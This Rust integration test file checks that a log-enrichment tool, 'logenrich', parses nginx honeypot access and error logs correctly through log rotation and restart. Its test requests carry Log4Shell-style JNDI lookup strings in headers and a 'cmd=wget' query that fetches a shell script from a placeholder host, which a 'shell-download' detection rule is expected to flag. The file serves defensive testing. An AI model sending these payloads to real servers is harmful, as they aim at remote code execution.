//! A real web server in front: Debian's nginx on a loopback port logs real requests,
//! hostile ones included, in the honeypot `log_format`; `logenrich --follow` reads its
//! access log through a rotation (`mv` + reopen) and a restart from its checkpoint, and
//! every request gets exactly one correct record.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;

use crate::util::{logenrich, stderr, tool};

/// nginx running in a temp dir, logging to `access.log` there.
struct Nginx {
    child: Child,
    dir: tempfile::TempDir,
    port: u16,
    ipv6: bool,
}

impl Nginx {
    fn start(nginx: &Path) -> Nginx {
        let dir = tempfile::tempdir().unwrap();
        let port = TcpListener::bind("127.0.0.1:0")
            .unwrap()
            .local_addr()
            .unwrap()
            .port();
        let ipv6 = TcpListener::bind(("::1", port)).is_ok();
        let d = dir.path().display();
        let listen6 = if ipv6 {
            format!("listen [::1]:{port};")
        } else {
            String::new()
        };
        // The honeypot format of ../shared/reference.md §1, on one line.
        let conf = format!(
            r#"daemon off;
worker_processes 1;
pid {d}/nginx.pid;
error_log {d}/error.log notice;
events {{ worker_connections 64; }}
http {{
    log_format honeypot '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" "$http_x_forwarded_for" $server_port $host';
    access_log {d}/access.log honeypot;
    client_body_temp_path {d}/body;
    proxy_temp_path {d}/proxy;
    fastcgi_temp_path {d}/fastcgi;
    uwsgi_temp_path {d}/uwsgi;
    scgi_temp_path {d}/scgi;
    server {{
        listen 127.0.0.1:{port};
        {listen6}
        location / {{ return 200 "ok\n"; }}
        location /missing/ {{ root {d}/www; }}
    }}
}}
"#
        );
        let conf_path = dir.path().join("nginx.conf");
        std::fs::write(&conf_path, conf).unwrap();
        let child = Command::new(nginx)
            .arg("-p")
            .arg(dir.path())
            .arg("-c")
            .arg(&conf_path)
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .expect("nginx starts");
        let server = Nginx {
            child,
            dir,
            port,
            ipv6,
        };
        let deadline = Instant::now() + Duration::from_secs(10);
        while TcpStream::connect(("127.0.0.1", port)).is_err() {
            assert!(Instant::now() < deadline, "nginx did not listen on {port}");
            std::thread::sleep(Duration::from_millis(20));
        }
        server
    }

    fn log(&self) -> PathBuf {
        self.dir.path().join("access.log")
    }

    /// Sends one raw request from `from` (127.0.0.1 or ::1) and reads the answer.
    fn send(&self, v6: bool, request: &[u8]) {
        let addr: SocketAddr = if v6 {
            format!("[::1]:{}", self.port).parse().unwrap()
        } else {
            format!("127.0.0.1:{}", self.port).parse().unwrap()
        };
        let mut stream = TcpStream::connect(addr).unwrap();
        stream
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        stream.write_all(request).unwrap();
        let mut answer = Vec::new();
        let _ = stream.read_to_end(&mut answer);
        assert!(
            answer.starts_with(b"HTTP/1."),
            "{:?}",
            String::from_utf8_lossy(&answer)
        );
    }

    /// Reopens the log files (what `nginx -s reopen` sends).
    fn reopen(&self) {
        signal(&self.child, "USR1");
    }
}

impl Drop for Nginx {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

fn signal(child: &Child, name: &str) {
    let ok = Command::new("kill")
        .args([format!("-{name}"), child.id().to_string()])
        .status()
        .unwrap()
        .success();
    assert!(ok);
}

/// The requests of round `round`: request `n` asks for `/req/{n}/...`.
fn requests(round: usize, ipv6: bool) -> Vec<(usize, bool, Vec<u8>)> {
    let base = round * 100;
    let mut all: Vec<(usize, bool, Vec<u8>)> = vec![
        (
            base,
            false,
            format!("GET /req/{base}/plain HTTP/1.1\r\nHost: www.example.org\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n").into_bytes(),
        ),
        (
            base + 1,
            false,
            [
                format!("GET /req/{}/q\"uo\\te\\\"x HTTP/1.1\r\nHost: a\r\n", base + 1).as_bytes(),
                b"User-Agent: caf\xc3\xa9 \xff\xfe \"quoted\" back\\slash\r\nConnection: close\r\n\r\n",
            ]
            .concat(),
        ),
        (
            base + 2,
            false,
            [
                format!("GET /req/{}/caf", base + 2).as_bytes(),
                b"\xc3\xa9\xff HTTP/1.1\r\nHost: b\r\nConnection: close\r\n\r\n",
            ]
            .concat(),
        ),
        (
            base + 3,
            false,
            format!("GET /req/{}/x HTTP/1.1\r\nHost: c\r\nUser-Agent: ${{jndi:ldap://198.51.100.1/a}}\r\nReferer: ${{jndi:dns://198.51.100.2/b}}\r\nX-Forwarded-For: ${{jndi:rmi://198.51.100.3/c}}\r\nConnection: close\r\n\r\n", base + 3).into_bytes(),
        ),
        (
            base + 4,
            false,
            format!("GET /req/{}/old HTTP/1.0\r\n\r\n", base + 4).into_bytes(),
        ),
        (
            base + 5,
            false,
            format!("GET /req/{}/xff HTTP/1.1\r\nHost: d\r\nX-Forwarded-For: 203.0.113.5, 198.51.100.7\r\nConnection: close\r\n\r\n", base + 5).into_bytes(),
        ),
    ];
    if ipv6 {
        all.push((
            base + 6,
            true,
            format!(
                "GET /req/{}/v6 HTTP/1.1\r\nHost: [::1]\r\nConnection: close\r\n\r\n",
                base + 6
            )
            .into_bytes(),
        ));
    }
    all
}

/// The `n` of a record whose target is `/req/{n}/...`.
fn n_of(record: &Value) -> usize {
    let target = record["target"]
        .as_str()
        .unwrap_or_else(|| panic!("{record}"));
    let rest = target
        .strip_prefix("/req/")
        .unwrap_or_else(|| panic!("{record}"));
    rest.split('/').next().unwrap().parse().unwrap()
}

/// Checks what each kind of request must show in its record.
fn check(n: usize, record: &Value) {
    assert!(record.get("error").is_none(), "a parse error: {record}");
    let ip = record["ip"].as_str().unwrap();
    match n % 100 {
        0 => {
            assert_eq!(ip, "127.0.0.1");
            assert_eq!(record["user_agent"], "Mozilla/5.0");
            assert_eq!(record["host"], "www.example.org");
            assert_eq!(record["status"], 200);
        }
        1 => {
            // nginx escapes `"`, `\` and bytes >= 0x80 as \xHH; kept as logged.
            let target = record["target"].as_str().unwrap();
            assert!(target.contains(r"q\x22uo\x5Cte"), "{target}");
            let ua = record["user_agent"].as_str().unwrap();
            assert!(
                ua.contains(r"caf\xC3\xA9 \xFF\xFE \x22quoted\x22 back\x5Cslash"),
                "{ua}"
            );
        }
        2 => assert!(
            record["target"]
                .as_str()
                .unwrap()
                .ends_with(r"caf\xC3\xA9\xFF")
        ),
        3 => {
            assert!(
                record["user_agent"]
                    .as_str()
                    .unwrap()
                    .contains("${jndi:ldap")
            );
            assert!(record["referer"].as_str().unwrap().contains("${jndi:dns"));
            assert_eq!(record["forwarded"][0], "${jndi:rmi://198.51.100.3/c}");
        }
        4 => assert_eq!(record["protocol"], "HTTP/1.0"),
        5 => assert_eq!(
            record["forwarded"],
            serde_json::json!(["203.0.113.5", "198.51.100.7"])
        ),
        6 => assert_eq!(ip, "::1"),
        _ => unreachable!(),
    }
}

/// Sends a round of requests and waits for their records; returns the slowest
/// request → record time.
fn round_trip(
    nginx: &Nginx,
    round: usize,
    records: &std::sync::mpsc::Receiver<Value>,
    seen: &mut BTreeMap<usize, usize>,
) -> Duration {
    let mut slowest = Duration::ZERO;
    for (n, v6, request) in requests(round, nginx.ipv6) {
        let sent = Instant::now();
        nginx.send(v6, &request);
        let record = records
            .recv_timeout(Duration::from_secs(10))
            .unwrap_or_else(|_| panic!("no record for request {n}"));
        slowest = slowest.max(sent.elapsed());
        let got = n_of(&record);
        assert_eq!(got, n, "{record}");
        check(n, &record);
        *seen.entry(n).or_default() += 1;
    }
    slowest
}

/// Starts `logenrich --follow` on the log with a checkpoint.
fn follow(log: &Path, checkpoint: &Path) -> (Child, std::sync::mpsc::Receiver<Value>) {
    let mut child = logenrich()
        .args(["--no-dns", "--no-geoip", "-q", "--follow", "--checkpoint"])
        .arg(checkpoint)
        .arg(log)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let stdout = child.stdout.take().unwrap();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        use std::io::BufRead;
        for line in std::io::BufReader::new(stdout).lines() {
            let Ok(line) = line else { return };
            let v: Value = serde_json::from_str(&line).unwrap_or_else(|e| panic!("{line}: {e}"));
            if tx.send(v).is_err() {
                return;
            }
        }
    });
    (child, rx)
}

#[test]
fn nginx_requests_get_one_record_each_through_rotation_and_restart() {
    let Some(bin) = tool("nginx") else { return };
    let nginx = Nginx::start(&bin);
    let work = tempfile::tempdir().unwrap();
    let checkpoint = work.path().join("ckpt.json");
    let log = nginx.log();
    // A first request makes the log exist; the first run reads it from its start (the
    // checkpoint is new, so from the end, which the warm-up record precedes).
    let mut seen = BTreeMap::new();
    let (first, records) = follow(&log, &checkpoint);
    std::thread::sleep(Duration::from_millis(300));
    let mut slowest = round_trip(&nginx, 0, &records, &mut seen);

    // Rotation while running: mv + reopen.
    std::fs::rename(&log, nginx.dir.path().join("access.log.1")).unwrap();
    nginx.reopen();
    slowest = slowest.max(round_trip(&nginx, 1, &records, &mut seen));

    // Stop; requests and another rotation while logenrich is down; restart.
    signal(&first, "TERM");
    let out = first.wait_with_output().unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let down = requests(2, nginx.ipv6);
    for (_, v6, request) in &down[..3] {
        nginx.send(*v6, request);
    }
    std::fs::rename(&log, nginx.dir.path().join("access.log.2")).unwrap();
    nginx.reopen();
    std::thread::sleep(Duration::from_millis(200));
    for (_, v6, request) in &down[3..] {
        nginx.send(*v6, request);
    }
    let (second, records) = follow(&log, &checkpoint);
    for (n, _, _) in &down {
        let record = records
            .recv_timeout(Duration::from_secs(10))
            .unwrap_or_else(|_| panic!("no record for request {n} after the restart"));
        let got = n_of(&record);
        check(got, &record);
        *seen.entry(got).or_default() += 1;
    }
    slowest = slowest.max(round_trip(&nginx, 3, &records, &mut seen));
    std::thread::sleep(Duration::from_millis(300));
    assert!(records.try_recv().is_err(), "a record too many");
    signal(&second, "TERM");
    assert!(second.wait_with_output().unwrap().status.success());

    let expected: Vec<usize> = (0..4)
        .flat_map(|r| requests(r, nginx.ipv6).into_iter().map(|(n, _, _)| n))
        .collect();
    assert_eq!(seen.keys().copied().collect::<Vec<_>>(), expected);
    assert!(seen.values().all(|&c| c == 1), "repeated: {seen:?}");
    eprintln!(
        "nginx: {} requests, one record each; slowest request → record {slowest:?}",
        expected.len()
    );
    assert!(slowest < Duration::from_secs(5));
}

/// nginx's own error log, as it writes it: every line is an error-log record (none is an
/// error record), with the client, request and host of the requests that failed, the
/// attack rules over them, and the server's own notices without a client.
#[test]
fn nginx_error_log_lines_are_records_with_their_client_and_request() {
    let Some(bin) = tool("nginx") else { return };
    let nginx = Nginx::start(&bin);
    let errors = nginx.dir.path().join("error.log");
    let wanted = [
        "/missing/a".to_owned(),
        "/missing/b.php?cmd=wget%20http://192.0.2.1/x.sh".to_owned(),
    ];
    for target in &wanted {
        let request = format!("GET {target} HTTP/1.1\r\nHost: h.test\r\nConnection: close\r\n\r\n");
        nginx.send(false, request.as_bytes());
    }
    if nginx.ipv6 {
        nginx.send(
            true,
            b"GET /missing/c HTTP/1.1\r\nHost: h.test\r\nConnection: close\r\n\r\n",
        );
    }
    let failed = wanted.len() + usize::from(nginx.ipv6);
    let deadline = Instant::now() + Duration::from_secs(20);
    let text = loop {
        let text = std::fs::read_to_string(&errors).unwrap_or_default();
        if text.matches(" [error] ").count() >= failed {
            break text;
        }
        assert!(Instant::now() < deadline, "nginx logged no errors: {text}");
        std::thread::sleep(Duration::from_millis(50));
    };
    let out = logenrich()
        .args(["--no-dns", "--no-geoip"])
        .arg(&errors)
        .output()
        .unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let records: Vec<Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(records.len(), text.lines().count());
    for r in &records {
        assert!(r.get("error").is_none(), "an error record for {r}");
        assert_eq!(r["log_type"], "error", "{r}");
    }
    let failures: Vec<&Value> = records.iter().filter(|r| r["level"] == "error").collect();
    assert_eq!(failures.len(), failed, "{text}");
    for (r, target) in failures.iter().zip(&wanted) {
        assert_eq!(r["ip"], "127.0.0.1", "{r}");
        assert_eq!(r["target"].as_str(), Some(target.as_str()), "{r}");
        assert_eq!(
            (&r["method"], &r["protocol"]),
            (&"GET".into(), &"HTTP/1.1".into())
        );
        assert_eq!(r["host"], "h.test", "{r}");
        assert!(
            r["message"].as_str().unwrap().starts_with("open() \""),
            "{r}"
        );
        assert!(
            r["pid"].as_u64().is_some() && r["connection"].as_u64().is_some(),
            "{r}"
        );
    }
    assert_eq!(
        failures[1]["attacks"][0]["rule"], "shell-download",
        "{}",
        failures[1]
    );
    if nginx.ipv6 {
        assert_eq!(failures[2]["ip"], "::1");
    }
    let notices: Vec<&Value> = records.iter().filter(|r| r["level"] == "notice").collect();
    assert!(!notices.is_empty(), "{text}");
    assert!(notices.iter().all(|r| r["ip"].is_null()), "{notices:?}");
}
